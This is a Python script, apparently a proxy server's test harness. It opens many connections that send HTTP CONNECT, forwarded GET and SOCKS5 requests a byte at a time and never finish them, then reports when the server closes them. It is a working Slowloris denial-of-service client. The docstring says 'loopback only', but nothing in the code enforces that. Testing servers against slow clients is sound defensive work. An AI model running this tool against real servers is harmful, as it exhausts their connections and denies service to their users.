"""Slowloris: many clients that send their request a byte at a time and
never finish it, loopback only.

    slowloris.py --connect HOST:PORT --count N --dest HOST:PORT
                 [--sources A.B.C.D-N] [--interval S] [--max S]

Opens N connections (spread over --sources round robin), a third each
of three kinds: an HTTP CONNECT head that goes on with header lines
forever, a forwarded GET the same way, and a SOCKS5 handshake for DEST
dribbled a byte at a time.  Every connection gets its next byte every
--interval seconds (default 1), staggered.  Prints "open N" once all are
connected, then "t=S open K" every second, and at the end (all closed,
or --max seconds, default 60) "closed C of N first_s A last_s B
answered D": C closed by the server, first and last of those times
(seconds after their connect), D that got any byte back.
"""
import argparse
import os
import selectors
import socket
import sys
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from proxyclient import connect, split_hostport  # noqa: E402
from many_tunnels import raise_nofile, sources  # noqa: E402


def script(kind, dest):
    host, port = split_hostport(dest)
    if kind == 0:
        head = b"CONNECT %s:%d HTTP/1.1\r\n" % (host.encode(), port)
        return head, b"X-Slow: a\r\n"
    if kind == 1:
        head = b"GET http://%s:%d/ HTTP/1.1\r\nHost: %s\r\n" % (
            host.encode(), port, host.encode())
        return head, b"X-Slow: b\r\n"
    req = b"\x05\x01\x00\x05\x01\x00\x03" + bytes([len(host)]) + \
        host.encode() + port.to_bytes(2, "big")
    return req[:-1], b""	# the last byte never comes


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--connect", required=True)
    ap.add_argument("--count", type=int, required=True)
    ap.add_argument("--dest", required=True)
    ap.add_argument("--sources")
    ap.add_argument("--interval", type=float, default=1.0)
    ap.add_argument("--max", type=float, default=60)
    a = ap.parse_args()
    host, port = split_hostport(a.connect)
    srcs = sources(a.sources)
    raise_nofile(a.count + 100)
    conns = []
    for i in range(a.count):
        s = connect(host, port, 5, srcs[i % len(srcs)])
        s.setblocking(False)
        head, tail = script(i % 3, a.dest)
        conns.append({"s": s, "head": head, "tail": tail, "pos": 0,
                      "t0": time.monotonic(), "closed": None, "got": 0,
                      "next": time.monotonic() + a.interval * i / a.count})
    print("open %d" % len(conns), flush=True)
    sel = selectors.DefaultSelector()
    for c in conns:
        sel.register(c["s"], selectors.EVENT_READ, c)
    start = time.monotonic()
    next_report = start + 1
    live = len(conns)
    while live and time.monotonic() - start < a.max:
        now = time.monotonic()
        for c in conns:
            if c["closed"] is not None or now < c["next"]:
                continue
            c["next"] = now + a.interval
            if c["pos"] < len(c["head"]):
                b = c["head"][c["pos"]:c["pos"] + 1]
            elif c["tail"]:
                t = c["tail"]
                b = t[(c["pos"] - len(c["head"])) % len(t):][:1]
            else:
                continue
            try:
                c["s"].send(b)
                c["pos"] += 1
            except (BlockingIOError, InterruptedError):
                pass
            except OSError:
                pass	# the read side notices the close
        for key, _ in sel.select(timeout=0.05):
            c = key.data
            try:
                d = c["s"].recv(4096)
            except (BlockingIOError, InterruptedError):
                continue
            except OSError:
                d = b""
            if d:
                c["got"] += len(d)
                continue
            c["closed"] = time.monotonic() - c["t0"]
            sel.unregister(c["s"])
            c["s"].close()
            live -= 1
        if time.monotonic() >= next_report:
            print("t=%d open %d" % (round(time.monotonic() - start), live),
                  flush=True)
            next_report += 1
    closed = [c["closed"] for c in conns if c["closed"] is not None]
    print("closed %d of %d first_s %.1f last_s %.1f answered %d" % (
        len(closed), len(conns), min(closed) if closed else -1,
        max(closed) if closed else -1, sum(1 for c in conns if c["got"])),
        flush=True)
    for c in conns:
        if c["closed"] is None:
            c["s"].close()


if __name__ == "__main__":
    main()
